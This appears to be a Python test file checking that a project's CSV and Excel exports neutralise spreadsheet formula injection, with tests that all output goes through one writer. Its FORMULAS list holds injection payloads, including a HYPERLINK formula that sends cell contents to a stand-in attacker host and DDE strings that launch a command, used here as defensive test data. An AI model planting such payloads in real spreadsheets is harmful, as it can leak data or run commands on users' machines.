"""What goes out to a spreadsheet: no cell is a formula, and every file is written in one place."""

import csv
import io
import re
import zipfile

import pytest
from python_files import PACKAGE, ROOT

from kraftkollen.errors import Problem
from kraftkollen.intake.remarks import with_remarks
from kraftkollen.model.spreadsheets import csv_bytes, harmless
from tests.intake.files import book

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://angripare.se?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\uff1d1+1",
    "+1+cmd|x",
    "-A1",
    "--1",
    "=",
    "@",
    "-1;=2",
)
TEXTS = ("", "Torgstaden", "-", "--", "-2,1", "+3,2 procentenheter", "-1 234,5 %", "−2,1", "0", "1=1", "a@b", "'=1")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_could_work_out_is_a_text(text: str) -> None:
    if text != "--1":
        assert harmless(text) == f"'{text}"
    cell = next(csv.reader(io.StringIO(csv_bytes([[text, 1]]).decode("utf-8-sig"), newline=""), delimiter=";"))[0]
    assert not re.match(r"[ \u00a0]*[=+@\t\r\n\uff1d-]", cell)


@pytest.mark.parametrize("text", TEXTS)
def test_a_number_a_dash_and_an_ordinary_text_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_the_copy_with_remarks_makes_text_of_the_formulas_that_came_in_and_keeps_the_numbers() -> None:
    sent = 'indikator;område;period;värde\n"=1+1";@x;2023;-5\nb;+cmd|x;2023;1\n'
    copied = with_remarks(sent.encode(), "a.csv", [Problem("area_unknown", 2, "område", "@x")], lambda one: "=fel")
    assert copied is not None
    rows = list(csv.reader(io.StringIO(copied[0].decode("utf-8-sig")), delimiter=";"))
    assert [row[:4] for row in rows[1:]] == [["'=1+1", "'@x", "2023", "-5"], ["b", "'+cmd|x", "2023", "1"]]
    assert rows[1][4] == "'=fel"


def test_the_copy_of_a_workbook_holds_no_formula_and_no_link() -> None:
    sent = book(
        {"A": [["indikator", "område", "period", "värde"], ["x", "'=1+1", 2023, "http://angripare.se"], ["x", "=1", 2023, 1]]}
    )
    copied = with_remarks(sent, "a.xlsx", [Problem("area_unknown", 2, "område", "=")], lambda one: "=HYPERLINK(1)")
    assert copied is not None
    with zipfile.ZipFile(io.BytesIO(copied[0])) as archive:
        inside = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in inside
    assert b"hyperlink " not in inside
    assert b"=HYPERLINK(1)" in inside


def test_every_csv_that_goes_out_is_written_in_one_place_and_every_workbook_by_its_rule() -> None:
    paths = [str(path.relative_to(ROOT)) for path in PACKAGE.rglob("*.py")]
    written = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.(to_csv|write_csv|to_excel)\(")
    writers = {path for path in paths if written.search((ROOT / path).read_text(encoding="utf-8"))}
    # What is written in bulk to the journal's own server does not go out.
    assert writers == {"kraftkollen/model/spreadsheets.py", "kraftkollen/store/server_connection.py"}
    for path in paths:
        source = (ROOT / path).read_text(encoding="utf-8")
        made = re.findall(r"xlsxwriter\.Workbook\(\s*([^)]*)\)", source)
        assert all("BOOK" in one for one in made), f"{path} makes a workbook whose texts may become formulas: give it BOOK"
        assert not re.search(r"\.(write_formula|write_url|write_array_formula)\(", source), path
